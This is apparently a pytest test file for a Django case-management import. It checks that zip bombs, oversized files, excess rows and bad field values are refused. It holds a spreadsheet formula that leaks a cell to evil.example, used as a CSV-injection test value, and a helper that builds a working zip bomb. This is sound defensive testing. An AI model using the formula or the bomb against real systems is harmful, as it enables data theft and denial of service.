"""The casework import's limits: zip bombs, too many rows, bounded errors, the person form's rules."""

from __future__ import annotations

import dataclasses
import io
import struct
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django_scopes import scope
from openpyxl import Workbook

from panah.cases import importing
from panah.cases.importing import MAX_ERRORS_KEPT, import_cases
from panah.cases.models import Case
from panah.people.models import Person

pytestmark = pytest.mark.django_db

HEADER = "external_reference,given_name_latin,registered_on,phone,email\n"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
# What the import may allocate at most while refusing a bomb (the real file costs gigabytes).
MEMORY_BOUND = 64 * 1024 * 1024


def _deflated(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def write_bomb(path: Path, cell_bytes: int = 1 << 30) -> Path:
    """A real workbook whose one cell is `cell_bytes` of '0' inline: about 1 MB on disk.

    The cell is deflated one MiB at a time with a full flush between, so every MiB after the
    first compresses to the same bytes and the file is built in a moment.
    """
    book = Workbook(write_only=True)
    book.create_sheet("people").append(["external_reference", "given_name_latin"])
    plain = io.BytesIO()
    book.save(plain)
    members = []
    with zipfile.ZipFile(plain) as archive:
        for info in archive.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                continue
            data = archive.read(info.filename)
            members.append((info.filename, [_deflated(data)], zlib.crc32(data), len(data)))
    head = (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
        b'.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
    )
    tail = b"</t></is></c></row></sheetData></worksheet>"
    chunk = b"0" * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    end = c.compress(tail) + c.flush()
    count = cell_bytes // len(chunk)
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    members.append(
        (
            "xl/worksheets/sheet1.xml",
            [start, *[block] * count, end],
            crc,
            len(head) + count * len(chunk) + len(tail),
        )
    )
    with path.open("wb") as out:
        central = b""
        for name, parts, crc, size in members:
            encoded = name.encode()
            compressed = sum(len(p) for p in parts)
            offset = out.tell()
            out.write(
                struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, compressed, size,
                            len(encoded), 0) + encoded
            )  # fmt: skip
            for part in parts:
                out.write(part)
            central += (
                struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc,
                            compressed, size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
            )  # fmt: skip
        at = out.tell()
        out.write(central)
        out.write(
            struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central),
                        at, 0)
        )  # fmt: skip
    return path


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> Path:
    return write_bomb(tmp_path_factory.mktemp("bomb") / "people.xlsx")


def _peak(action):
    tracemalloc.start()
    try:
        result = action()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_the_bomb_is_a_one_megabyte_workbook_of_a_gigabyte(bomb):
    assert bomb.stat().st_size < 1_200_000
    with zipfile.ZipFile(bomb) as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size > 1 << 30
        assert archive.testzip() is None  # every part's checksum is right: a valid file


def test_the_import_page_refuses_a_zip_bomb_with_bounded_memory(bomb, admin_a, login_as, org_a):
    client = login_as(admin_a)
    client.get("/cases/import/")  # the first request loads templates and modules: not measured
    upload = SimpleUploadedFile("people.xlsx", bomb.read_bytes())

    response, peak = _peak(
        lambda: client.post("/cases/import/", {"file": upload, "dry_run": "on"}, follow=True)
    )

    page = response.content.decode()
    assert response.status_code == 200
    assert "zip bomb" in page and "nothing was imported" in page
    assert peak < MEMORY_BOUND
    with scope(organisation=org_a):
        assert not Person.objects.exists()


def test_the_command_refuses_a_zip_bomb_with_bounded_memory(bomb, admin_a, capsys):
    def run():
        with pytest.raises(CommandError, match="nothing was imported"):
            call_command("cases", "import", str(bomb), "--organisation", "org-a",
                         "--by", admin_a.email)  # fmt: skip

    _, peak = _peak(run)

    assert "zip bomb" in capsys.readouterr().err
    assert peak < MEMORY_BOUND


def test_an_xlsx_past_the_row_limit_stops_at_the_first_row_too_many(
    org_a, admin_a, tmp_path, monkeypatch
):
    monkeypatch.setattr(importing, "LIMITS", dataclasses.replace(importing.LIMITS, rows=5))
    book = Workbook(write_only=True)
    sheet = book.create_sheet("people")
    sheet.append(["external_reference", "given_name_latin", "registered_on"])
    for i in range(8):
        sheet.append([f"X-{i}", "Reza", "2024-03-05"])
    path = tmp_path / "people.xlsx"
    book.save(path)
    with scope(organisation=org_a):
        report = import_cases(organisation=org_a, by=admin_a, file=path, filename=path.name)
    assert [(e.row, e.field) for e in report.errors] == [(7, "file")]
    assert report.errors[0].message.startswith("Row 7 is past the limit of 5 rows")
    assert not report.saved


def test_a_csv_with_too_many_rows_is_refused_with_a_row_level_message(
    org_a, admin_a, login_as, monkeypatch
):
    monkeypatch.setattr(importing, "LIMITS", dataclasses.replace(importing.LIMITS, rows=3))
    csv = HEADER + "".join(f"R-{i},Reza,2024-03-05,,\n" for i in range(4))
    response = login_as(admin_a).post(
        "/cases/import/", {"file": SimpleUploadedFile("people.csv", csv.encode())}, follow=True
    )
    page = response.content.decode()
    assert "Row 5 is past the limit of 3 rows: split the file" in page
    with scope(organisation=org_a):
        assert not Case.objects.exists()


def test_the_real_row_limit_refuses_the_row_after_it(org_a, admin_a):
    rows = importing.LIMITS.rows
    csv = "external_reference,given_name_latin,registered_on\n" + "".join(
        f"R-{i},Reza,2024-03-05\n" for i in range(rows + 1)
    )
    with scope(organisation=org_a):
        report = import_cases(
            organisation=org_a, by=admin_a, file=csv.encode(), filename="people.csv", dry_run=True
        )
    assert [(e.row, e.field) for e in report.errors] == [(rows + 2, "file")]
    assert report.rows == rows


def test_a_refused_file_is_listed_first_even_after_many_row_errors(org_a, admin_a, monkeypatch):
    monkeypatch.setattr(importing, "LIMITS", dataclasses.replace(importing.LIMITS, rows=150))
    csv = HEADER + "".join(f"B-{i},Reza,not a date,,\n" for i in range(151))
    with scope(organisation=org_a):
        report = import_cases(organisation=org_a, by=admin_a, file=csv.encode(), filename="p.csv")
    assert (report.errors[0].row, report.errors[0].field) == (152, "file")
    assert (len(report.errors), report.error_count) == (MAX_ERRORS_KEPT, 151)


def test_errors_are_counted_all_but_listed_only_up_to_the_bound(org_a, admin_a, login_as):
    csv = HEADER + "".join(f"B-{i},Reza,not a date,,\n" for i in range(250))
    response = login_as(admin_a).post(
        "/cases/import/", {"file": SimpleUploadedFile("people.csv", csv.encode())}, follow=True
    )
    page = response.content.decode()
    assert "250 problems found: nothing was imported." in page
    assert page.count("is not a date") == MAX_ERRORS_KEPT
    assert "… and 150 more problems, not listed." in page


def test_a_file_over_the_size_limit_is_refused_by_the_form_with_the_limit(org_a, admin_a, login_as):
    big = HEADER + "x" * (importing.LIMITS.file_bytes + 1)
    response = login_as(admin_a).post(
        "/cases/import/", {"file": SimpleUploadedFile("people.csv", big.encode())}
    )
    page = response.content.decode()
    assert "files may be at most 10.0\xa0MB" in page, page[page.find("errorlist") - 200 :][:800]


def test_the_command_refuses_a_file_over_the_size_limit(admin_a, tmp_path, capsys):
    path = tmp_path / "people.csv"
    path.write_text(HEADER + "x" * (importing.LIMITS.file_bytes + 1))
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("cases", "import", str(path), "--organisation", "org-a", "--by", admin_a.email)
    assert "the limit is 10 MB" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("phone", "-1+1", "Write the phone number with digits"),
        ("phone", "------", "Write the phone number with digits"),
        ("given_name_latin", FORMULA, "cannot start with = + - or @"),
        ("given_name_latin", "@SUM(1+1)", "cannot start with = + - or @"),
        ("email", "not an address", "Enter a valid email address."),
        ("given_name_latin", "R" * 101, "At most 100 characters"),
    ],
)
def test_imported_details_get_the_person_forms_rules(org_a, admin_a, field, value, message):
    values = {"given_name_latin": "Reza", "phone": "+32 470 12 34 56", "email": "", field: value}
    line = ",".join(
        '"' + str(v).replace('"', '""') + '"'
        for v in ("V-1", values["given_name_latin"], "2024-03-05", values["phone"], values["email"])
    )
    with scope(organisation=org_a):
        report = import_cases(
            organisation=org_a, by=admin_a, file=(HEADER + line + "\n").encode(), filename="p.csv"
        )
        assert not Person.objects.exists()
    # (a refused name may also leave the row without any name)
    assert {(e.row, e.field) for e in report.errors} == {(2, field)}
    assert message in report.errors[0].message


def test_good_details_still_import(org_a, admin_a):
    csv = HEADER + "G-1,Reza,2024-03-05,+32 (470) 12.34.56,reza@example.org\n"
    with scope(organisation=org_a):
        report = import_cases(organisation=org_a, by=admin_a, file=csv.encode(), filename="p.csv")
        assert (report.saved, report.errors) == (True, [])
        person = Person.objects.get()
    assert (person.phone, person.email) == ("+32 (470) 12.34.56", "reza@example.org")
